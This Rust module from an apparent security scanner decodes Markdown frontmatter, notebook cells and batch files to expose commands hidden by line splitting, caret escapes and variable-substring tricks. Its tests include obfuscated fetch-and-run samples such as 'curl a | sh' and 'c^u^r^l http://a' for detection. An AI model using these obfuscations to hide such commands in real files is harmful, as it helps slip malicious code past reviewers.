//! Text as the program that reads a file understands it: values of the frontmatter that continue on other lines, the
//! cells of a notebook, and the commands of a batch file with the values of its variables.

use std::collections::BTreeMap;

use super::decode::MAX_PART;
use super::markup::reveals;
use super::packed::more;
use super::{Decoded, Encoding};
use crate::path::RelPath;
use crate::source::frontmatter::{Field, Frontmatter, Value};
use crate::source::lines::{Span, char_floor};

/// The maximum number of values in a frontmatter that are examined. Aliases can repeat a value very often.
const MAX_VALUES: usize = 10_000;

/// The maximum number of variables of a batch file whose values are known.
const MAX_VARIABLES: usize = 1000;

/// The maximum length of a variable's value, in bytes.
const LONGEST_VALUE: usize = 2000;

/// Fields that contain prose, which no program runs.
const PROSE: [&str; 5] = [
    "description",
    "when_to_use",
    "when-to-use",
    "license",
    "compatibility",
];

/// Variables that every Windows system has, with their usual values. Attackers take letters from these values.
const SYSTEM: [(&str, &str); 9] = [
    ("comspec", r"C:\WINDOWS\system32\cmd.exe"),
    ("systemroot", r"C:\WINDOWS"),
    ("windir", r"C:\WINDOWS"),
    ("systemdrive", "C:"),
    ("programfiles", r"C:\Program Files"),
    ("programdata", r"C:\ProgramData"),
    ("commonprogramfiles", r"C:\Program Files\Common Files"),
    ("public", r"C:\Users\Public"),
    (
        "pathext",
        ".COM;.EXE;.BAT;.CMD;.VBS;.VBE;.JS;.JSE;.WSF;.WSH;.MSC",
    ),
];

/// Returns the parts of a file that its reader understands differently from how they are written.
pub(super) fn parts(path: &RelPath, text: &str) -> Vec<Decoded> {
    let mut found = Vec::new();
    let is = |extensions: &[&str]| extensions.iter().any(|of| path.has_extension(of));
    if is(&["md"]) {
        frontmatter(text, &mut found);
    } else if is(&["bat", "cmd"]) {
        batch(text, &mut found);
    } else if is(&["ipynb"]) || text.contains("\"nbformat\"") {
        notebook(text, &mut found);
    }
    found
}

/// Adds the values of the frontmatter that are not written as they are read, except prose.
fn frontmatter(text: &str, found: &mut Vec<Decoded>) {
    let (block, _) = Frontmatter::split(text);
    let Some(fields) = block.fields() else {
        return;
    };
    let mut room = Room {
        values: MAX_VALUES,
        bytes: MAX_PART,
    };
    for field in fields.iter() {
        add_field(text, field, &mut room, found);
    }
    if room.values == 0 || room.bytes == 0 {
        found.push(more(0, Encoding::Concatenation));
    }
}

/// How many values, and bytes of values, may still be examined.
struct Room {
    values: usize,
    bytes: usize,
}

fn add_field(text: &str, field: &Field, room: &mut Room, found: &mut Vec<Decoded>) {
    if !PROSE.contains(&&*field.key) {
        add_value(text, &field.value, field.value_span, room, found);
    }
}

fn add_value(text: &str, value: &Value, span: Span, room: &mut Room, found: &mut Vec<Decoded>) {
    if room.values == 0 || room.bytes == 0 {
        return;
    }
    room.values -= 1;
    match value {
        Value::Null => {}
        Value::Text(value) => {
            let raw = text.get(span.start..span.end).unwrap_or_default();
            room.bytes = room.bytes.saturating_sub(raw.len().max(value.len()));
            if !raw.contains(&**value) && (is_command(value) || reveals(raw, value)) {
                found.push(decoded(span, String::from(&**value)));
            }
        }
        Value::List(items) => {
            for item in items.iter() {
                add_value(text, &item.value, item.span, room, found);
            }
        }
        Value::Map(fields) => {
            for field in fields.iter() {
                add_field(text, field, room, found);
            }
        }
    }
}

/// Returns whether a value may be a command. A value in prose seldom has one of these signs.
fn is_command(value: &str) -> bool {
    value.contains(['|', ';', '&', '`', '$', '~']) || value.contains(" -")
}

fn decoded(span: Span, text: String) -> Decoded {
    Decoded {
        span,
        text,
        encoding: Encoding::Concatenation,
    }
}

/// Adds the source of all cells of a notebook. The structure of the notebook is not checked, because readers of
/// notebooks accept more than one syntax.
fn notebook(text: &str, found: &mut Vec<Decoded>) {
    let mut out = String::new();
    let mut at = 0;
    let mut is_source = false;
    // Whether the last string was in the list of a source.
    let mut is_in_list = false;
    while let Some(open) = memchr::memchr(b'"', &text.as_bytes()[at..]) {
        let between = &text[at..at + open];
        if is_source && between.contains('[') {
            is_in_list = true;
        }
        is_in_list &= !between.contains(']');
        let (value, end) = string(text, at + open);
        let is_key = text[end..].trim_start().starts_with(':');
        if !is_key && (is_source || is_in_list) {
            out.push_str(&value);
            if !is_in_list {
                out.push('\n');
            }
        }
        // A cell ends with a line end, which the last string of its source does not have.
        if is_key && !out.ends_with('\n') {
            out.push('\n');
        }
        is_in_list &= !is_key;
        is_source = is_key && matches!(&*value, "source" | "input");
        at = end;
    }
    if !out.trim().is_empty() {
        found.push(decoded(Span::new(0, text.len()), out));
    }
}

/// Returns the value of the JSON string that begins with the quote at `open`, and the offset after the string.
fn string(text: &str, open: usize) -> (String, usize) {
    let bytes = text.as_bytes();
    let mut end = open + 1;
    while let Some(sign) = memchr::memchr2(b'"', b'\\', bytes.get(end..).unwrap_or_default()) {
        end += sign;
        if bytes[end] == b'"' {
            let raw = &text[open..=end];
            let value = serde_json::from_str(raw).unwrap_or_else(|_| raw.to_owned());
            return (value, end + 1);
        }
        end += 2;
    }
    (String::new(), text.len())
}

/// Adds the text of a batch file with the values of its variables and without `^`, if this reveals a command.
fn batch(text: &str, found: &mut Vec<Decoded>) {
    if memchr::memchr3(b'^', b'%', b'!', text.as_bytes()).is_none() {
        return;
    }
    let mut variables: BTreeMap<String, String> = SYSTEM
        .iter()
        .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
        .collect();
    let most = (4 * text.len()).min(MAX_PART);
    let mut out = String::new();
    let joined = text.replace("^\r\n", "").replace("^\n", "");
    for line in joined.lines() {
        if out.len() > most {
            found.push(more(0, Encoding::Concatenation));
            break;
        }
        let line = expanded(&line.replace('^', ""), &variables, most);
        if let Some((name, value)) = assigned(&line)
            && value.len() <= LONGEST_VALUE
            && variables.len() < MAX_VARIABLES
        {
            variables.insert(name, value);
        }
        out.push_str(&line);
        out.push('\n');
    }
    if reveals(text, &out) {
        found.push(decoded(Span::new(0, text.len()), out));
    }
}

/// Returns the name, in lower case, and the value of the variable that a line sets.
fn assigned(line: &str) -> Option<(String, String)> {
    let bare = line.trim_start_matches([' ', '\t', '@', '(', '&']);
    let head = bare.get(..4)?;
    if !head.eq_ignore_ascii_case("set ") {
        return None;
    }
    let rest = bare[4..].trim_start();
    let (name, value) = rest.split_once('=')?;
    let name = name.trim_start_matches('"').to_ascii_lowercase();
    let value = value.split('&').next().unwrap_or_default();
    let value = value.trim_end_matches(['\r', '"', ' ']);
    Some((name, value.to_owned()))
}

/// Returns a line in which known variables are replaced: `%A%`, `!A!`, `%A:~1,2%` and `%A:b=c%`. Once the line has
/// `most` bytes, the rest of it is kept as it is.
fn expanded(line: &str, variables: &BTreeMap<String, String>, most: usize) -> String {
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(at) = rest.find(['%', '!']).filter(|_| out.len() < most) {
        out.push_str(&rest[..at]);
        let sign = char::from(rest.as_bytes()[at]);
        let inner = &rest[at + 1..];
        let close = inner.find(sign);
        let value = close.and_then(|close| value(&inner[..close], variables));
        if let (Some(close), Some(value)) = (close, value) {
            out.push_str(&value);
            rest = &inner[close + 1..];
        } else {
            out.push(sign);
            rest = inner;
        }
    }
    out.push_str(rest);
    out
}

/// Returns the value of a reference to a variable, without the signs around it.
fn value(reference: &str, variables: &BTreeMap<String, String>) -> Option<String> {
    let (name, change) = reference.split_once(':').unwrap_or((reference, ""));
    let value = variables.get(&name.to_ascii_lowercase())?;
    if change.is_empty() {
        return Some(value.clone());
    }
    if let Some(range) = change.strip_prefix('~') {
        let (start, length) = range.split_once(',').unwrap_or((range, ""));
        return Some(slice(value, number(start)?, number(length)));
    }
    let (from, to) = change.split_once('=')?;
    let is_small = !from.is_empty() && to.len() * value.len() <= 10 * LONGEST_VALUE;
    is_small.then(|| {
        let mut value = value.replace(from, to);
        value.truncate(char_floor(&value, LONGEST_VALUE));
        value
    })
}

fn number(text: &str) -> Option<isize> {
    text.trim().parse().ok()
}

/// Returns `length` characters of a value from `start`. A negative number counts from the end.
fn slice(value: &str, start: isize, length: Option<isize>) -> String {
    let chars: Vec<char> = value.chars().collect();
    let all = chars.len();
    let place = |at: isize, from: usize| {
        let end = if at < 0 { all } else { from };
        end.saturating_add_signed(at).min(all)
    };
    let start = place(start, 0);
    let end = length.map_or(all, |length| place(length, start));
    chars.get(start..end).unwrap_or_default().iter().collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(name: &str, text: &str) -> Vec<String> {
        let path = RelPath::parse(name).unwrap();
        let found = parts(&path, text).into_iter();
        found.map(|part| part.text).collect()
    }

    #[test]
    fn values_of_the_frontmatter_are_read_as_yaml() {
        for (value, expected) in [
            ("curl a\n        | sh", "curl a | sh"),
            (">-\n        curl a\n        | sh", "curl a | sh"),
            ("\"cu\\\n        rl a | s\\\n        h\"", "curl a | sh"),
            ("\"curl a\n        | sh\"", "curl a | sh"),
        ] {
            let text = format!("---\nname: a\nhooks:\n  - run: {value}\n---\nText.\n");
            assert_eq!(read("a.md", &text), [expected], "{value}");
        }
        let text =
            "---\nname: a\ndescription: >-\n  One\n  two.\nmetadata:\n  a: b\n  c: \"d\"\n---\n";
        assert!(read("a.md", text).is_empty());
    }

    #[test]
    fn repeated_values_of_a_frontmatter_are_bounded() {
        let mut text = "---\na0: &a0 [\"b\\x41\"]\n".to_owned();
        for n in 1..30 {
            let before = n - 1;
            text.push_str(&format!("a{n}: &a{n} [*a{before}, *a{before}]\n"));
        }
        text.push_str("---\n");
        assert!(read("a.md", &text).len() <= MAX_VALUES + 1);
    }

    #[test]
    fn cells_of_a_notebook_are_joined() {
        let text = r#"{"cells": [{"source": ["import os\n", "os.sys", "tem('cu", "rl a')"], "outputs": ["x"]},
            {"sour\u0063e": "p = 1\nq = 2"}], "nbformat": 4}"#;
        let expected = "import os\nos.system('curl a')\np = 1\nq = 2\n";
        let found = read("a.ipynb", text);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].trim_start(), expected);
        assert!(read("a.ipynb", "{\"cells\": \"\\").is_empty());
    }

    #[test]
    fn a_batch_file_is_read_with_its_variables() {
        for (text, expected) in [
            ("c^u^r^l http://a", "curl http://a"),
            ("set a=cu\nset \"b=rl\"\n%a%%b% a", "curl a"),
            ("set x=lruc\n%x:~3,1%%x:~2,1%%X:~1,-2%%x:~-4,1% a", "curl a"),
            ("set x=cuQQrl\n!x:QQ=! a", "curl a"),
        ] {
            let found = read("a.bat", text);
            assert!(
                found.iter().any(|found| found.contains(expected)),
                "{text} {found:?}"
            );
        }
        assert!(read("a.bat", "set d=%~dp0\ncd %d%\necho 100%\n").is_empty());
        assert_eq!(slice("abc", -9, Some(-9)), "");
        assert_eq!(slice("abc", 1, Some(isize::MIN)), "");
    }
}
